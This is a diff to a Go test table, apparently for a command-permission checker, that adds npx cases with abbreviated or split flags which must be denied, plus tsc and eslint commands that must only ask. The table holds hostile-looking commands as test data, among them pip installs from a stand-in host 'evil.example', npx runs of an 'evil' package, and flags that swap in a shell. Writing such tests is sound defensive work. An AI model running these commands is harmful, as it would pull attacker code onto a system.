@@ -34,6 +34,9 @@ var devToolFormCases = []tableCase{
 	{"npm run build --script-sh=/tmp/sh", deny("forbidden_flag")},
 	{"npm run build --script-shel /tmp/sh", deny("forbidden_flag")},
 	{"npx --packa=evil x", deny("forbidden_flag")},
+	{"npx --packa evil x", deny("forbidden_flag")},
+	{"npx --cache .c -p evil tsc", deny("forbidden_flag")},
+	{"npx --quiet -y tsc", deny("forbidden_flag")},
 	{"pip install --index=https://evil.example/simple pkg", deny("forbidden_flag")},
 	{"pip install --extra-index https://evil.example/simple pkg", deny("forbidden_flag")},
 	{"pip install --find https://evil.example/ pkg", deny("forbidden_flag")},
@@ -43,6 +46,8 @@ var devToolFormCases = []tableCase{
 	{"cargo build --conf 'target.x.runner=\"sh\"'", deny("forbidden_flag")},
 	// Not injection: these must still only ask.
 	{"make -s test", ask},
+	{"npx tsc -p .", ask}, // tsc's -p (its project), not npx's --package
+	{"npx eslint -c .eslintrc.json src", ask},
 	{"make --silent test", ask},
 	{"make -f Makefile test", ask},
 	{"make -j4 test", ask},
